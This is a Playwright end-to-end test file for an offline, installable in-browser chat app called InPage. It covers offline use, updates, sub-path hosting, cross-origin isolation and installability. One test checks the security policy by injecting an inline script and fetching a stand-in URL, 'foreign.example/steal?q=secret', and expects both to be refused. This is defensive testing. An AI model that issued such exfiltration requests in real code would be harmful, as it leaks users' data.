/**
 * The installable, offline app, served as a plain static host serves it (no headers), with the
 * service worker on: offline start, updates across tabs, a sub-path, cross-origin isolation from the
 * service worker, the security policy, and Chromium's installability criteria.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium } from '@playwright/test';
import { type ModelServer, startModelServer } from '../fixtures/model-server.ts';
import { type StaticServer, startStaticServer } from '../fixtures/static-server.ts';
import { SPELLED_TEXT } from '../fixtures/tiny-model.ts';
import { chromiumPath, TEST_CHROMIUM_ARGS } from './chromium.ts';
import { type App, expect, test } from './fixtures.ts';
import { controlled, onOwnServers, recordViolations } from './service-worker.ts';

test.use({ serviceWorkers: 'allow' });

async function chatExactly(app: App): Promise<void> {
  await app.send('hi');
  expect(await app.finishedReply()).toBe(SPELLED_TEXT);
}

test('offline: after one visit the app opens from the service worker, loads the model from IndexedDB and answers, with no policy violations', async ({
  app,
}) => {
  const { page } = app;
  await onOwnServers(async ({ site, models, cut }) => {
    const violations = await recordViolations(page);
    await page.goto(`${site.url}?model=${encodeURIComponent(models.url('/tiny.gguf'))}`);
    await app.ready();
    await chatExactly(app);
    await controlled(page);
    expect(await violations()).toEqual([]);

    // Cut the network for real: both servers go away, their sockets with them.
    await cut();
    await page.reload();
    await app.ready();
    await expect(app.status).toContainText("loaded from this browser's storage");
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true); // the service worker's headers
    await chatExactly(app);
    expect(await violations()).toEqual([]);

    // The policy really is in force: an injected inline script and a request to another host are refused.
    const blocked = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = true';
      document.body.append(script);
      const fetched = await fetch('https://foreign.example/steal?q=secret').then(
        () => 'sent',
        () => 'refused',
      );
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { injected: 'injected' in window, fetched };
    });
    expect(blocked).toEqual({ injected: false, fetched: 'refused' });
    expect(await violations()).toEqual(['script-src-elem inline', 'connect-src https://foreign.example/steal?q=secret']);
  });
});

test('offline: documents are indexed with the ONNX embedding model after one visit: ONNX Runtime from the offline cache, the model from IndexedDB', async ({
  app,
}) => {
  const { page } = app;
  await onOwnServers(async ({ site, models, cut }) => {
    const violations = await recordViolations(page);
    const embed = models.url('/onnx/bge/resolve/main/onnx/model_quantized.onnx');
    await page.goto(`${site.url}?model=${encodeURIComponent(models.url('/tiny.gguf'))}&embed=${encodeURIComponent(embed)}`);
    await app.ready();
    const panel = page.locator('details.documents');
    const attach = async (name: string, text: string) => {
      if (!(await panel.evaluate((d) => (d as HTMLDetailsElement).open))) await panel.locator('summary').click();
      await panel.getByLabel('Attach documents…').setInputFiles({ name, mimeType: 'text/plain', buffer: Buffer.from(text) });
    };
    await expect(panel.locator('.hint').filter({ hasText: 'Passages are found by bge (model_quantized.onnx)' })).toBeAttached();
    // The first visit: the page is not yet controlled when the engine worker starts; the worker keeps ONNX Runtime itself.
    await attach('garden.txt', 'The garden has apples, pears and a small pond.');
    await expect(panel.locator('.document-list li')).toHaveCount(1, { timeout: 30_000 });
    await controlled(page);

    await cut();
    await page.reload();
    await app.ready();
    // A new conversation after the reload, and a new document in it, indexed with the network gone.
    await attach('river.txt', 'The river runs past the mill and under the old bridge.');
    await expect(panel.locator('.document-list li .document-name')).toHaveText(['river.txt'], { timeout: 30_000 });
    await expect(panel.getByRole('alert')).toHaveCount(0);
    await app.send('Where does the river run?');
    expect(await app.finishedReply()).toBe(SPELLED_TEXT);
    await expect(app.lastReply().getByRole('navigation', { name: 'Sources' }).getByRole('button')).toHaveText(['[1] river.txt']);
    expect(await violations()).toEqual([]);
  });
});

test.describe('updates', () => {
  let dir: string;
  test.beforeAll(() => {
    test.setTimeout(180_000);
    dir = mkdtempSync(join(tmpdir(), 'inpage-versions-'));
    for (const version of ['e2e-v1', 'e2e-v2']) {
      execFileSync('npx', ['vite', 'build', '--outDir', join(dir, version), '--emptyOutDir', '--logLevel', 'error'], {
        env: { ...process.env, INPAGE_BUILD_ID: version },
        stdio: 'pipe',
      });
    }
  });
  test.afterAll(() => rmSync(dir, { recursive: true, force: true }));

  test('a new version waits for the user, then every tab moves to it together, with no missing files', async ({ app, context }) => {
    const { page } = app;
    const site: StaticServer = await startStaticServer(join(dir, 'e2e-v1'), { isolated: false });
    const missing: string[] = [];
    context.on('response', (r) => {
      if (r.status() >= 400) missing.push(`${r.status()} ${r.url()}`);
    });
    try {
      await page.goto(site.url);
      await controlled(page);
      await page.reload(); // now isolated, and served by the service worker
      const second = await context.newPage();
      await second.goto(site.url);
      for (const tab of [page, second]) await expect(tab.locator('html')).toHaveAttribute('data-build', 'e2e-v1');

      site.root = join(dir, 'e2e-v2'); // deploy
      await page.reload(); // a navigation checks for a new service worker
      for (const tab of [page, second]) {
        await expect(tab.getByRole('status').filter({ hasText: 'A new version of InPage is ready.' })).toBeVisible();
        // Until the user says yes, the old version keeps running.
        await expect(tab.locator('html')).toHaveAttribute('data-build', 'e2e-v1');
      }

      await page.bringToFront(); // back to the first tab, as a person would: one in the background gets no animation frames
      await page.getByRole('button', { name: 'Reload to update' }).click();
      for (const tab of [page, second]) await expect(tab.locator('html')).toHaveAttribute('data-build', 'e2e-v2');
      // The new version's engine worker and WebAssembly load and answer (through a loopback model server).
      const models: ModelServer = await startModelServer(process.env.TINY_MODEL_PATH as string);
      try {
        await app.loadByAddress(models.url('/tiny.gguf'));
        await app.ready();
        await chatExactly(app);
        await site.close();
        await page.reload();
        await expect(page.locator('html')).toHaveAttribute('data-build', 'e2e-v2');
        const fetched = models.requests.length;
        await app.loadByAddress(models.url('/tiny.gguf'));
        await app.ready();
        await chatExactly(app);
        expect(models.requests.length, 'the model came from this browser').toBe(fetched);
      } finally {
        await models.close();
      }
      expect(missing).toEqual([]);
    } finally {
      await site.close();
    }
  });
});

test('deployed under a sub-path: the service worker, the engine worker and the WebAssembly all load from there', async ({ app }) => {
  const { page } = app;
  const site = await startStaticServer('dist', { isolated: false, base: '/some/sub/path/' });
  try {
    await page.goto(`${site.url}?model=${encodeURIComponent(app.models.url('/tiny.gguf'))}`);
    await app.ready();
    await chatExactly(app);
    await controlled(page);
    expect(await page.evaluate(async () => (await navigator.serviceWorker.ready).scope)).toBe(site.url);
    const loaded = site.requests.filter((p) => /runtime-worker-.*\.js$|\.wasm$|manifest\.webmanifest$/.test(p));
    expect(loaded.length).toBeGreaterThanOrEqual(3);
    for (const path of site.requests) expect(path.startsWith('/some/sub/path/'), path).toBe(true);
    const manifest = await page.evaluate(async () => {
      const link = document.querySelector('link[rel=manifest]') as HTMLLinkElement;
      return { href: link.href, json: await (await fetch(link.href)).json() };
    });
    expect(manifest.href).toBe(`${site.url}manifest.webmanifest`);
    expect(new URL(manifest.json.start_url, manifest.href).href).toBe(site.url);
    expect(new URL(manifest.json.scope, manifest.href).href).toBe(site.url);
  } finally {
    await site.close();
  }
});

test('on a host without headers, the service worker makes the page cross-origin isolated: llama.cpp gets its threads', async ({ app }) => {
  const { page } = app;
  const site = await startStaticServer('dist', { isolated: false });
  try {
    await page.goto(`${site.url}?threads=2`);
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
    // Nothing loaded or typed yet, so the app reloads itself once under the service worker; a look taken
    // while that reload replaces the page finds no page to look at, and is taken again.
    await expect.poll(() => page.evaluate(() => crossOriginIsolated).catch(() => 'reloading'), { timeout: 20_000 }).toBe(true);
    await app.loadByAddress(app.models.url('/tiny.gguf'));
    await app.ready();
    await expect(app.status).toContainText('CPU, 2 threads');
    await chatExactly(app);
  } finally {
    await site.close();
  }
});

test('a host the policy does not list is refused with a way out, and allowed after one reload', async ({ app }) => {
  const { page } = app;
  const site = await startStaticServer('dist', { isolated: false });
  // 127.0.0.2 is this computer too, but not in the default policy (which lists localhost and 127.0.0.1).
  const other = await startModelServer(process.env.TINY_MODEL_PATH as string, undefined, '127.0.0.2');
  try {
    await page.goto(site.url);
    await controlled(page);
    await page.reload();
    await app.loadByAddress(other.url('/tiny.gguf'));
    await expect(page.getByRole('alert')).toContainText(
      `This page's security policy does not allow connections to ${new URL(other.origin).host} yet`,
    );
    expect(other.requests).toEqual([]);
    await page.getByRole('button', { name: 'Reload the page' }).click();
    await app.loadByAddress(other.url('/tiny.gguf'));
    await app.ready();
    await chatExactly(app);
  } finally {
    await site.close();
    await other.close();
  }
});

test('an IPv6 host, which no policy can name, is refused with what to do instead, not a reload loop', async ({ app }) => {
  const { page } = app;
  const other = await startModelServer(process.env.TINY_MODEL_PATH as string, undefined, '::1');
  try {
    await app.open();
    await app.loadByAddress(other.url('/tiny.gguf'));
    const alert = page.getByRole('alert');
    await expect(alert).toContainText(`This page's security policy cannot allow connections to ${new URL(other.origin).host}`);
    await expect(alert).toContainText('Serve the file under a host name (such as localhost)');
    expect(other.requests).toEqual([]);
  } finally {
    await other.close();
  }
});

test('installable by Chromium’s own criteria, with a manifest, icons and a service worker', async () => {
  const site = await startStaticServer('dist', { isolated: false });
  // Chromium never offers installation in an incognito-like context, which Playwright's are: use a real profile.
  const profile = mkdtempSync(join(tmpdir(), 'inpage-profile-'));
  const context = await chromium.launchPersistentContext(profile, { executablePath: chromiumPath() as string, args: TEST_CHROMIUM_ARGS });
  try {
    const page = context.pages()[0] ?? (await context.newPage());
    await page.goto(site.url);
    await controlled(page);
    const cdp = await page.context().newCDPSession(page);
    const { installabilityErrors } = await cdp.send('Page.getInstallabilityErrors');
    expect(installabilityErrors).toEqual([]);
    const manifest = JSON.parse(readFileSync('dist/manifest.webmanifest', 'utf8'));
    expect(manifest).toMatchObject({ display: 'standalone', start_url: './', scope: './', short_name: 'InPage' });
    expect(manifest.icons.map((i: { sizes: string; purpose?: string }) => `${i.sizes}${i.purpose ? ` ${i.purpose}` : ''}`)).toEqual([
      '192x192',
      '512x512',
      '512x512 maskable',
      'any',
    ]);
  } finally {
    await context.close();
    await site.close();
    rmSync(profile, { recursive: true, force: true });
  }
});
